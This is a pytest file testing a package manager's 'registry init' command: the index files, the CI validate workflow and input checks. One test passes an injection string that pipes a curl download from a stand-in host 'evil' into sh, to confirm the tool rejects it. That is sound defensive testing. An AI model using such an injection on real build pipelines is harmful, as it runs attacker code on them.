"""`pkgmgr registry init`: the files of a new index and its CI workflow."""

from __future__ import annotations

import tomllib
from pathlib import Path

import pytest
import yaml

from pkgmgr.registry.index_format import build_index
from pkgmgr.registry.init import default_name, default_requirement
from pkgmgr.registry.summary import parse_shards
from tests.publish.helpers import LOCK_FILE, fail, ok, snapshot


def workflow(root: Path) -> dict:
    return yaml.safe_load((root / ".github/workflows/validate.yml").read_text("utf-8"))


def steps_by_name(doc: dict) -> dict[str, dict]:
    (job,) = doc["jobs"].values()
    return {step["name"]: step for step in job["steps"]}


def test_init_writes_an_empty_valid_index(tmp_path: Path) -> None:
    root = tmp_path / "extension-index"
    data = ok("registry", "init", root, "--name", "acme", "--description", "Acme extensions")["initialized"]
    assert data["name"] == "acme" and data["serial"] == 0
    assert set(data["files"]) == {".gitignore", "extensions/.gitkeep", ".github/workflows/validate.yml",
                                  "index/shards.json", "registry.toml"}
    meta = tomllib.loads((root / "registry.toml").read_text("utf-8"))["registry"]
    assert meta == {"format": 2, "name": "acme", "description": "Acme extensions", "serial": 0}
    assert (root / "extensions").is_dir() and not (root / "index.json").exists()
    listed = parse_shards((root / "index/shards.json").read_bytes())
    assert (listed.serial, listed.extensions, listed.shards) == (0, 0, {})
    assert LOCK_FILE in (root / ".gitignore").read_text("utf-8").splitlines()
    assert ok("registry", "validate", root)["valid"] is True


def test_init_format_1_writes_index_json(tmp_path: Path) -> None:
    root = tmp_path / "extension-index"
    data = ok("registry", "init", root, "--name", "acme", "--description", "Acme extensions",
              "--format", "1")["initialized"]
    assert set(data["files"]) == {".gitignore", "extensions/.gitkeep", ".github/workflows/validate.yml",
                                  "index.json", "registry.toml"}
    meta = tomllib.loads((root / "registry.toml").read_text("utf-8"))["registry"]
    assert meta == {"format": 1, "name": "acme", "description": "Acme extensions", "serial": 0}
    assert (root / "index.json").read_bytes() == build_index(root)
    assert not (root / "index").exists()
    assert ok("registry", "validate", root)["valid"] is True


@pytest.mark.parametrize(("options", "validate"), [
    ((), 'pkgmgr registry validate . --changed-since "${{ github.event.pull_request.base.sha }}" --fetch'),
    (("--format", "1"), 'pkgmgr registry validate . --base "${{ github.event.pull_request.base.sha }}" --fetch'),
])
def test_workflow_is_valid_yaml_naming_checkout_python_install_and_validate(tmp_path: Path, options: tuple[str, ...],
                                                                             validate: str) -> None:
    ok("registry", "init", tmp_path / "idx", *options)
    doc = workflow(tmp_path / "idx")
    triggers = doc.get("on", doc.get(True))  # YAML 1.1 reads a bare `on` as true; GitHub reads it as "on"
    assert "pull_request" in triggers
    steps = steps_by_name(doc)
    checkout = steps["Check out the index"]
    assert checkout["uses"].startswith("actions/checkout@") and checkout["with"]["fetch-depth"] == 0
    assert steps["Set up Python"]["uses"].startswith("actions/setup-python@")
    install = steps["Install pkgmgr"]["run"]
    assert "pip install" in install and default_requirement() in install
    assert "git+https://" in install and "@v" in install  # pinned, never the unrelated PyPI name
    assert steps["Validate the index"]["run"] == validate
    assert doc["permissions"] == {"contents": "read"}


def test_workflow_uses_the_requirement_given(tmp_path: Path) -> None:
    requirement = "pkgmgr @ git+https://github.com/acme/pkgmgr@0123456789abcdef0123456789abcdef01234567"
    ok("registry", "init", tmp_path / "idx", "--pkgmgr-requirement", requirement)
    assert requirement in steps_by_name(workflow(tmp_path / "idx"))["Install pkgmgr"]["run"]
    fail("usage", "registry", "init", tmp_path / "other", "--pkgmgr-requirement", "pkgmgr'; curl evil | sh #")
    assert not (tmp_path / "other").exists()


def test_init_refuses_an_existing_index_and_writes_nothing(index: Path) -> None:
    before = snapshot(index)
    doc = fail("usage", "registry", "init", index)
    assert "registry.toml" in doc["error"]["message"] and "nothing was written" in doc["error"]["message"]
    assert snapshot(index) == before


def test_init_accepts_a_fresh_repository_and_extends_its_gitignore(tmp_path: Path) -> None:
    root = tmp_path / "repo"
    (root / ".git").mkdir(parents=True)
    (root / "README.md").write_text("# our extensions\n")
    (root / ".gitignore").write_text("*.swp")
    ok("registry", "init", root)
    assert (root / ".gitignore").read_text() == (
        "*.swp\n# pkgmgr's lock while it publishes, yanks or builds, and its staging\n" + LOCK_FILE + "\n"
        ".pkgmgr-staging/\n")
    assert (root / "README.md").read_text() == "# our extensions\n"


def test_init_names(tmp_path: Path) -> None:
    assert default_name(tmp_path / "Extension Index") == "extension-index"
    assert default_name(tmp_path / "123") == "registry"
    fail("usage", "registry", "init", tmp_path / "x", "--name", "Not A Name")
    (tmp_path / "file").write_text("")
    fail("usage", "registry", "init", tmp_path / "file")
